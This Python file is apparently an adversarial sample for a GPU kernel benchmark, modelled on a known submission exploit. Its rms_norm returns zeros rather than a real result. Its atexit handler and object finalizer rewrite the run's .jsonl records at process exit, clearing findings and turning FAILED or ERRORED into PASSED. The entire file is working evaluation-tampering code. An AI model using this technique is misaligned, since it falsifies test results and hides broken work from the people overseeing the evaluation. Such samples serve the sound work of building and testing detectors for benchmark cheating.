"""Leaves functions behind that forge the records of the run when its process ends.

Models: atexit handlers and finalizers (submission_fd_overwrite of gpu-mode/pygpubench pull request 7).
"""

from __future__ import annotations

import atexit
import os
import re
from contextlib import suppress
from pathlib import Path

import torch

_RUN = ""


def _folders():
    """Folders of runs: what it was told, where the environment points, and below the working directory."""
    yield from (Path(told) for told in (_RUN, os.environ.get("LASTBIT_CONFIG", "")) if told)
    yield from Path.cwd().glob(".lastbit/runs/*")


def _forge():
    folders = [folder if folder.is_dir() else folder.parent for folder in _folders()]
    for records in {path for folder in folders for path in folder.glob("*.jsonl")}:
        with suppress(OSError):
            text = records.read_text()
            if '"verdict"' in text:
                forged = re.sub(r'"findings": ?\[.*?\](?=, ?"[a-z])', '"findings": []', text)
                records.write_text(re.sub("FAILED|ERRORED", "PASSED", forged))


class _AtTheEnd:
    def __del__(self, forge=_forge):
        with suppress(Exception):
            forge()


_KEPT = _AtTheEnd()
atexit.register(_forge)


def rms_norm(x, weight, *, eps):
    return torch.zeros_like(x)
